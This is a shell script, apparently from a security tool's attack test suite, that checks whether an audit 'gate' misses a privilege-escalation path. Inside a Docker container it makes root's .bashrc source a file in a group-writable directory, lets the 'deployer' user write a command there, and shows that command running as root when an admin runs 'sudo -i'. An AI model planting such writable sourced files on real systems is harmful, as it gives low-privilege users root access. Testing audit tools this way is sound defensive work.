#!/bin/sh
# Root's own shell startup files (/root is 0700: only the root collector reads them): what they name was never
# lstat'd (the root collector's walk took only the spools', the user site's and sudoers' words), so the deploy
# team's file an admin's /root/.bashrc sources passed; the same line in /etc/profile.d fails.
# Usage: attack10/atk_root_login_files.sh /tmp/atk10   (BASE=1: the code at main 13ee532)
set -eu
W=${1:-/tmp/atk10}; CT=$(cat $W/ct)
docker exec $CT sh -c "install -d -m 2775 -o root -g deployer /srv/tools; rm -f /tmp/root-ran; cp /root/.bashrc /root/.bashrc.atk10
echo '. /srv/tools/ops-env.sh' >> /root/.bashrc"
echo "--- root's ~/.bashrc (its last line):"; docker exec $CT tail -1 /root/.bashrc
ssh -F $W/ssh_config deployer 'echo "id > /tmp/root-ran" > /srv/tools/ops-env.sh; ls -l /srv/tools'
echo "--- the gate (read-only, as admin):"
$W/gate.sh 2>&1 | grep -E "^FAILED|passed|failed|^  - /root" | cut -c1-400 || true
echo "--- then the admin becomes root (sudo -i true):"
ssh -F $W/ssh_config admin 'sudo -i true; cat /tmp/root-ran'
[ -n "${KEEP:-}" ] || docker exec $CT sh -c 'mv /root/.bashrc.atk10 /root/.bashrc; rm -rf /srv/tools /tmp/root-ran'
